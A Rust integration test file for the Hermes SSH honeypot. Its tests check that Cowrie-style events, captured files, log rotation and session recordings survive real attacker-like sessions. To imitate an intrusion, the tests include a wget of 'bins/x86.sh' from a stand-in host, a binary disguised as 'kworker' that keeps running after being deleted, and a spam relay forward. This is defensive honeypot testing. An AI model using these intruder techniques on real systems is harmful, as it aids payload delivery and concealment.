@@ -1,0 +1,559 @@
+//! Nothing the attacker does is lost: every event id a real session produces, checked
+//! against the catalogue (names and types); command lines from keystrokes; files
+//! captured into the store (written, fetched, uploaded with scp and sftp, deleted
+//! before logout, in /dev/shm, running but deleted); limits; SIGKILL; rotation;
+//! a full disk; and the recordings read back by asciinema and `hermes replay`.
+
+use std::collections::BTreeSet;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::time::{Duration, Instant};
+
+use serde_json::Value;
+
+use crate::client::{Client, ROOT_PROMPT};
+use crate::harness::{Hermes, Options, read_cast, require_docker, succeeded};
+
+fn of_kind<'a>(events: &'a [Value], id: &str) -> Vec<&'a Value> {
+    events.iter().filter(|e| e["eventid"] == id).collect()
+}
+
+fn sha256_hex(bytes: &[u8]) -> String {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let path = dir.path().join("data");
+    std::fs::write(&path, bytes).expect("write");
+    let out = Command::new("sha256sum")
+        .arg(&path)
+        .output()
+        .expect("sha256sum");
+    String::from_utf8_lossy(&out.stdout)
+        .split_whitespace()
+        .next()
+        .unwrap_or_default()
+        .to_owned()
+}
+
+/// Waits until the session that logged in last has closed, and returns the events.
+fn wait_closed(hermes: &Hermes, count: usize) -> Vec<Value> {
+    hermes.wait_for_events("sessions closed", |events| {
+        of_kind(events, "cowrie.session.closed").len() >= count
+    })
+}
+
+/// The file events of the store for `destfile`.
+fn file_event<'a>(events: &'a [Value], id: &str, destfile: &str) -> Option<&'a Value> {
+    events
+        .iter()
+        .find(|e| e["eventid"] == id && e["destfile"] == destfile)
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_session_leaves_every_file_it_made_in_the_store() {
+    if !require_docker() {
+        return;
+    }
+    let hermes = Hermes::start(Options::default());
+    let client = Client::login(hermes.port, "root", "toor").await;
+    let mut shell = client.shell(120, 40).await;
+    assert!(
+        shell
+            .read_until(ROOT_PROMPT, 0, Duration::from_secs(20))
+            .await
+    );
+    // A fetch that cannot reach its server (the container has no network), then
+    // the same name written by the shell: the file is labelled with the URL.
+    shell
+        .run(
+            "cd /tmp; wget -q -T 1 http://198.51.100.9/bins/x86.sh || printf '#!/bin/sh\\necho pwned\\n' > x86.sh; cd",
+            ROOT_PROMPT,
+        )
+        .await;
+    // Written, then deleted before logout: the pass after the command catches it.
+    shell
+        .run("echo 'short-lived secret' > /var/tmp/gone.txt", ROOT_PROMPT)
+        .await;
+    tokio::time::sleep(Duration::from_secs(5)).await;
+    shell.run("rm -f /var/tmp/gone.txt", ROOT_PROMPT).await;
+    // In /dev/shm (a tmpfs the engine's diff does not see).
+    shell
+        .run("printf 'shm payload' > /dev/shm/.x; mkdir -p /root/.cache", ROOT_PROMPT)
+        .await;
+    // A running program whose file was deleted (a miner that hides itself).
+    let sleep_hash = shell.run("sha256sum /bin/sleep", ROOT_PROMPT).await;
+    let sleep_hash: String = sleep_hash
+        .split_whitespace()
+        .find(|w| w.len() == 64)
+        .expect("sha256sum output")
+        .to_owned();
+    shell
+        .run(
+            "cp /bin/sleep /root/.cache/kworker; (/root/.cache/kworker 600 &); sleep 0.5; rm /root/.cache/kworker",
+            ROOT_PROMPT,
+        )
+        .await;
+    shell.send("exit\n").await;
+    assert!(shell.read_to_close(Duration::from_secs(20)).await);
+    drop(shell);
+    drop(client);
+
+    let events = wait_closed(&hermes, 1);
+    let x86 = file_event(&events, "cowrie.session.file_download", "/tmp/x86.sh")
+        .unwrap_or_else(|| panic!("no capture of /tmp/x86.sh: {events:#?}"));
+    let payload = b"#!/bin/sh\necho pwned\n";
+    assert_eq!(x86["shasum"], sha256_hex(payload));
+    assert_eq!(x86["size"], payload.len());
+    assert_eq!(x86["url"], "http://198.51.100.9/bins/x86.sh");
+    assert_eq!(x86["duplicate"], false);
+    let outfile = PathBuf::from(x86["outfile"].as_str().expect("outfile"));
+    assert_eq!(std::fs::read(&outfile).expect("stored file"), payload);
+    assert_eq!(
+        outfile.file_name().map(|n| n.to_string_lossy().into_owned()),
+        Some(sha256_hex(payload))
+    );
+    assert!(outfile.starts_with(hermes.downloads()));
+
+    let gone = file_event(&events, "cowrie.session.file_download", "/var/tmp/gone.txt")
+        .expect("a file deleted before logout is captured");
+    assert_eq!(gone["shasum"], sha256_hex(b"short-lived secret\n"));
+    assert!(gone.get("url").is_none());
+
+    let shm = file_event(&events, "cowrie.session.file_download", "/dev/shm/.x")
+        .expect("/dev/shm is captured");
+    assert_eq!(shm["shasum"], sha256_hex(b"shm payload"));
+
+    let miner = file_event(
+        &events,
+        "cowrie.session.file_download",
+        "/root/.cache/kworker",
+    )
+    .expect("a deleted executable still running is captured");
+    assert_eq!(miner["shasum"], sleep_hash);
+
+    // Everything is in the metadata too, and the store holds each content once.
+    let session = x86["session"].as_str().expect("session");
+    let metadata: Value = serde_json::from_slice(
+        &std::fs::read(hermes.session_file(session, "json")).expect("metadata"),
+    )
+    .expect("json");
+    let files: BTreeSet<&str> = metadata["files"]
+        .as_array()
+        .expect("files")
+        .iter()
+        .filter_map(|f| f["destfile"].as_str())
+        .collect();
+    for path in ["/tmp/x86.sh", "/var/tmp/gone.txt", "/dev/shm/.x", "/root/.cache/kworker"] {
+        assert!(files.contains(path), "{path} not in {files:?}");
+    }
+    assert_eq!(metadata["end_reason"], "exited");
+    let commands: Vec<&str> = metadata["commands"]
+        .as_array()
+        .expect("commands")
+        .iter()
+        .filter_map(|c| c["input"].as_str())
+        .collect();
+    assert!(commands.iter().any(|c| c.starts_with("cd /tmp; wget")), "{commands:?}");
+    assert_eq!(commands.last(), Some(&"exit"));
+    // No login bookkeeping in the store (wtmp, lastlog are ignored).
+    assert!(file_event(&events, "cowrie.session.file_download", "/var/log/wtmp").is_none());
+}
+
+#[test]
+fn scp_and_sftp_uploads_are_reported_as_uploads() {
+    if !require_docker() {
+        return;
+    }
+    let hermes = Hermes::start(Options::default());
+    let dir = tempfile::tempdir().expect("tempdir");
+    let scp_file = dir.path().join("tool.bin");
+    std::fs::write(&scp_file, b"\x7fELF scp upload").expect("write");
+    let sftp_file = dir.path().join("kit.tar");
+    std::fs::write(&sftp_file, b"sftp upload contents").expect("write");
+
+    succeeded(
+        hermes
+            .openssh("scp", &["toor"], "password")
+            .arg(&scp_file)
+            .arg("root@127.0.0.1:/tmp/"),
+    );
+    let mut sftp = hermes.openssh("sftp", &["toor"], "password");
+    sftp.arg("-b").arg("-").arg("root@127.0.0.1");
+    let batch = format!("put {} uploaded.tar\n", sftp_file.display());
+    let output = crate::harness::run_with_stdin(&mut sftp, batch.as_bytes());
+    assert!(output.status.success(), "{output:?}");
+
+    let events = wait_closed(&hermes, 2);
+    let scp = file_event(&events, "cowrie.session.file_upload", "/tmp/tool.bin")
+        .unwrap_or_else(|| panic!("no scp upload event: {events:#?}"));
+    assert_eq!(scp["filename"], "tool.bin");
+    assert_eq!(scp["shasum"], sha256_hex(b"\x7fELF scp upload"));
+    let sftp = file_event(&events, "cowrie.session.file_upload", "/root/uploaded.tar")
+        .unwrap_or_else(|| panic!("no sftp upload event: {events:#?}"));
+    assert_eq!(sftp["filename"], "uploaded.tar");
+    assert_eq!(sftp["size"], 20);
+    assert_eq!(
+        std::fs::read(sftp["outfile"].as_str().expect("outfile")).expect("stored"),
+        b"sftp upload contents"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn capture_limits_drop_files_with_an_event() {
+    if !require_docker() {
+        return;
+    }
+    let hermes = Hermes::start(Options {
+        capture_extra: "  max_file_size: \"1k\"\n  max_files_per_session: 2\n",
+        ..Options::default()
+    });
+    let client = Client::login(hermes.port, "root", "toor").await;
+    let mut exec = client
+        .exec("head -c 4096 /dev/zero > /tmp/big; for i in 1 2 3 4; do echo $i > /tmp/small$i; done")
+        .await;
+    assert!(exec.read_to_close(Duration::from_secs(20)).await);
+    drop(exec);
+    drop(client);
+    let events = wait_closed(&hermes, 1);
+    let big = file_event(&events, "hermes.file.skipped", "/tmp/big").expect("big skipped");
+    assert_eq!(big["reason"], "max_file_size");
+    assert_eq!(big["size"], 4096);
+    let stored = of_kind(&events, "cowrie.session.file_download").len();
+    let too_many: Vec<_> = of_kind(&events, "hermes.file.skipped")
+        .into_iter()
+        .filter(|e| e["reason"] == "max_files_per_session")
+        .collect();
+    assert_eq!(stored, 2, "{events:#?}");
+    assert!(too_many.len() >= 2, "{too_many:?}");
+}
+
+/// Every id a real session produces, each checked (by the harness) against the
+/// catalogue's fields and types.
+#[tokio::test(flavor = "multi_thread")]
+async fn every_event_of_real_sessions_matches_the_catalogue() {
+    if !require_docker() {
+        return;
+    }
+    let hermes = Hermes::start(Options {
+        top_extra: "forwarding:\n  direct_tcpip: capture\n",
+        ..Options::default()
+    });
+    let dir = tempfile::tempdir().expect("tempdir");
+    let key = dir.path().join("id_ed25519");
+    succeeded(
+        Command::new("ssh-keygen")
+            .args(["-q", "-t", "ed25519", "-N", "", "-f"])
+            .arg(&key),
+    );
+    // A key offered (refused), a wrong password, the right one; env, a terminal,
+    // typed commands, a file; a forward with data.
+    let mut ssh = hermes.openssh("ssh", &["wrong", "toor"], "publickey,password");
+    ssh.arg("-i")
+        .arg(&key)
+        .args(["-o", "SendEnv=LC_HERMES", "-tt"])
+        .env("LC_HERMES", "1")
+        .arg("root@127.0.0.1")
+        .arg("echo data > /tmp/evidence; ls /tmp");
+    let _ = ssh.output().expect("ssh");
+    // A direct-tcpip forward through the in-process client.
+    let client = Client::login(hermes.port, "root", "toor").await;
+    let channel = client
+        .handle
+        .channel_open_direct_tcpip("198.51.100.20", 25, "10.0.0.1", 40000)
+        .await
+        .expect("captured forward");
+    channel.data(&b"EHLO spam\r\n"[..]).await.expect("data");
+    tokio::time::sleep(Duration::from_millis(500)).await;
+    drop(channel);
+    drop(client);
+    succeeded(
+        hermes
+            .openssh("scp", &["toor"], "password")
+            .arg(&key)
+            .arg("root@127.0.0.1:/tmp/key"),
+    );
+    let events = wait_closed(&hermes, 3);
+    let seen: BTreeSet<&str> = events
+        .iter()
+        .filter_map(|e| e["eventid"].as_str())
+        .collect();
+    for id in [
+        "cowrie.session.connect",
+        "cowrie.client.version",
+        "cowrie.client.kex",
+        "cowrie.client.fingerprint",
+        "cowrie.client.size",
+        "cowrie.client.var",
+        "cowrie.login.failed",
+        "cowrie.login.success",
+        "cowrie.command.input",
+        "cowrie.log.open",
+        "cowrie.log.closed",
+        "cowrie.session.file_download",
+        "cowrie.session.file_upload",
+        "cowrie.direct-tcpip.request",
+        "cowrie.direct-tcpip.data",
+        "cowrie.session.closed",
+        "hermes.container.allocate",
+        "hermes.container.release",
+    ] {
+        assert!(seen.contains(id), "no {id} among {seen:?}");
+    }
+    // Cowrie's shapes where pipelines parse them.
+    let kex = of_kind(&events, "cowrie.client.kex")[0];
+    assert!(kex["kexAlgs"].as_array().is_some_and(|a| !a.is_empty()));
+    assert_eq!(kex["hassh"].as_str().map(str::len), Some(32));
+    let closed = of_kind(&events, "cowrie.session.closed")[0];
+    assert!(closed["duration_ms"].is_u64());
+    for event in &events {
+        assert_eq!(event["protocol"], "ssh");
+        assert_eq!(event["src_ip"], "127.0.0.1");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn sigkill_mid_session_leaves_whole_lines_everywhere() {
+    if !require_docker() {
+        return;
+    }
+    let mut hermes = Hermes::start(Options::default());
+    let client = Client::login(hermes.port, "root", "toor").await;
+    let mut shell = client.shell(80, 24).await;
+    assert!(
+        shell
+            .read_until(ROOT_PROMPT, 0, Duration::from_secs(20))
+            .await
+    );
+    shell.run("uname -a", ROOT_PROMPT).await;
+    // Output still streaming when the process dies.
+    shell.send("seq 1 10000000\n").await;
+    assert!(shell.wait_for_bytes(200_000, Duration::from_secs(20)).await);
+    hermes.kill_hard();
+    drop(shell);
+    drop(client);
+    // Every event line parses and matches the catalogue (the harness checks).
+    let events = hermes.events();
+    assert!(
+        events
+            .iter()
+            .any(|e| e["eventid"] == "cowrie.command.input" && e["input"] == "uname -a; echo __done$((6*7))"),
+        "{events:#?}"
+    );
+    let cast = hermes
+        .recording_files()
+        .into_iter()
+        .find(|p| p.extension().is_some_and(|x| x == "cast"))
+        .expect("cast file");
+    let text = std::fs::read_to_string(&cast).expect("cast");
+    assert!(text.ends_with('\n'), "the cast ends with a whole line");
+    let (_, lines) = read_cast(&cast);
+    assert!(lines.len() > 10);
+    // asciinema reads what is there.
+    let out = Command::new("asciinema")
+        .arg("cat")
+        .arg(&cast)
+        .output()
+        .expect("asciinema (scripts/test.sh installs it)");
+    assert!(out.status.success(), "{out:?}");
+    assert!(String::from_utf8_lossy(&out.stdout).contains("Linux"));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_event_log_rotates_by_size_without_losing_a_line() {
+    if !require_docker() {
+        return;
+    }
+    let hermes = Hermes::start(Options {
+        failure_delay_ms: 0,
+        logging_extra: "  event_rotation: size\n  event_rotation_size: \"4k\"\n",
+        ..Options::default()
+    });
+    let mut tasks = Vec::new();
+    for _ in 0..8 {
+        let port = hermes.port;
+        tasks.push(tokio::spawn(async move {
+            for i in 0..10 {
+                let mut handle = crate::client::connect(port).await.expect("connect");
+                let _ = handle
+                    .authenticate_password(format!("user{i}"), "wrong")
+                    .await;
+            }
+        }));
+    }
+    for task in tasks {
+        task.await.expect("client");
+    }
+    let deadline = Instant::now() + Duration::from_secs(30);
+    loop {
+        let (files, lines) = all_event_lines(&hermes.log_dir());
+        let failed = lines
+            .iter()
+            .filter(|e| e["eventid"] == "cowrie.login.failed")
+            .count();
+        if failed >= 80 {
+            assert!(files > 3, "rotated into {files} files");
+            assert_eq!(failed, 80, "no line twice");
+            break;
+        }
+        assert!(Instant::now() < deadline, "{failed} of 80 failures logged");
+        std::thread::sleep(Duration::from_millis(200));
+    }
+}
+
+/// Every event line of every file of the event log (rotated ones included).
+fn all_event_lines(dir: &Path) -> (usize, Vec<Value>) {
+    let mut files = 0;
+    let mut lines = Vec::new();
+    for entry in std::fs::read_dir(dir).expect("log dir").filter_map(Result::ok) {
+        let name = entry.file_name().to_string_lossy().into_owned();
+        if !name.starts_with("hermes.json") {
+            continue;
+        }
+        files += 1;
+        let text = std::fs::read_to_string(entry.path()).expect("read");
+        for line in text.lines() {
+            let value: Value = serde_json::from_str(line).unwrap_or_else(|e| panic!("{name}: {e}: {line}"));
+            let id = hermes_core::events::EventId::from_name(value["eventid"].as_str().expect("id"))
+                .expect("known id");
+            id.check(value.as_object().expect("object"))
+                .unwrap_or_else(|e| panic!("{e}"));
+            lines.push(value);
+        }
+    }
+    (files, lines)
+}
+
+/// A small filesystem for the recordings: it fills up mid-session.
+struct SmallDisk {
+    path: PathBuf,
+}
+
+impl SmallDisk {
+    fn mount(path: &Path, size: &str) -> SmallDisk {
+        std::fs::create_dir_all(path).expect("mountpoint");
+        succeeded(
+            Command::new("mount")
+                .args(["-t", "tmpfs", "-o", &format!("size={size}"), "hermes-test"])
+                .arg(path),
+        );
+        SmallDisk {
+            path: path.to_owned(),
+        }
+    }
+}
+
+impl Drop for SmallDisk {
+    fn drop(&mut self) {
+        let _ = Command::new("umount").arg("-l").arg(&self.path).status();
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_full_disk_ends_the_recording_not_the_session() {
+    if !require_docker() {
+        return;
+    }
+    let base = tempfile::tempdir().expect("tempdir");
+    let disk = SmallDisk::mount(&base.path().join("small"), "256k");
+    let recordings = disk.path.join("recordings");
+    let hermes = Hermes::start(Options {
+        recording_dir: Some(recordings.clone()),
+        ..Options::default()
+    });
+    let client = Client::login(hermes.port, "root", "toor").await;
+    let mut shell = client.shell(80, 24).await;
+    assert!(
+        shell
+            .read_until(ROOT_PROMPT, 0, Duration::from_secs(20))
+            .await
+    );
+    // Far more output than the disk holds.
+    shell.run("seq 1 200000 | tail -c 20", ROOT_PROMPT).await;
+    shell.run("head -c 600000 /dev/urandom | base64 -w 0 | tail -c 8", ROOT_PROMPT).await;
+    let alive = shell.run("echo still-$((40+2))", ROOT_PROMPT).await;
+    assert!(alive.contains("still-42"), "{alive}");
+    shell.send("exit\n").await;
+    assert!(shell.read_to_close(Duration::from_secs(20)).await);
+    drop(shell);
+    drop(client);
+    let events = wait_closed(&hermes, 1);
+    let error = of_kind(&events, "hermes.record.error");
+    assert_eq!(error.len(), 1, "{events:#?}");
+    assert!(
+        error[0]["error"]
+            .as_str()
+            .is_some_and(|e| e.contains("No space left")),
+        "{error:?}"
+    );
+    assert_eq!(of_kind(&events, "cowrie.log.closed").len(), 1);
+    // What was written is whole lines of valid JSON.
+    let cast = std::fs::read_dir(&recordings)
+        .ok()
+        .and_then(|_| {
+            hermes
+                .recording_files()
+                .into_iter()
+                .find(|p| p.extension().is_some_and(|x| x == "cast"))
+        })
+        .expect("cast");
+    let text = std::fs::read_to_string(&cast).expect("cast");
+    assert!(text.ends_with('\n'));
+    let (header, lines) = read_cast(&cast);
+    assert_eq!(header["version"], 2);
+    assert!(!lines.is_empty());
+    drop(hermes);
+    drop(disk);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn sessions_and_replay_read_a_real_session() {
+    if !require_docker() {
+        return;
+    }
+    let hermes = Hermes::start(Options::default());
+    let client = Client::login(hermes.port, "root", "toor").await;
+    let mut shell = client.shell(80, 24).await;
+    assert!(
+        shell
+            .read_until(ROOT_PROMPT, 0, Duration::from_secs(20))
+            .await
+    );
+    shell.run("echo replay-$((6*9))", ROOT_PROMPT).await;
+    shell.send("exit\n").await;
+    assert!(shell.read_to_close(Duration::from_secs(20)).await);
+    drop(shell);
+    drop(client);
+    let events = wait_closed(&hermes, 1);
+    let session = of_kind(&events, "cowrie.session.closed")[0]["session"]
+        .as_str()
+        .expect("session")
+        .to_owned();
+    let dir = hermes.recordings();
+    let hermes_bin = env!("CARGO_BIN_EXE_hermes");
+    let list = succeeded(
+        Command::new(hermes_bin)
+            .args(["sessions", "--dir"])
+            .arg(&dir),
+    );
+    assert!(list.contains(&session), "{list}");
+    assert!(list.contains("127.0.0.1"), "{list}");
+    let replay = succeeded(
+        Command::new(hermes_bin)
+            .args(["replay", &session, "--speed", "1000", "--dir"])
+            .arg(&dir),
+    );
+    assert!(replay.contains("replay-54"), "{replay}");
+    let timeline = succeeded(
+        Command::new(hermes_bin)
+            .args(["replay", &session, "--commands", "--dir"])
+            .arg(&dir),
+    );
+    assert!(timeline.contains("echo replay-$((6*9))"), "{timeline}");
+    assert!(timeline.contains("exit"), "{timeline}");
+    let cast = hermes.session_file(&session, "cast");
+    let out = Command::new("asciinema")
+        .arg("cat")
+        .arg(&cast)
+        .output()
+        .expect("asciinema");
+    assert!(out.status.success());
+    assert!(String::from_utf8_lossy(&out.stdout).contains("replay-54"));
+}
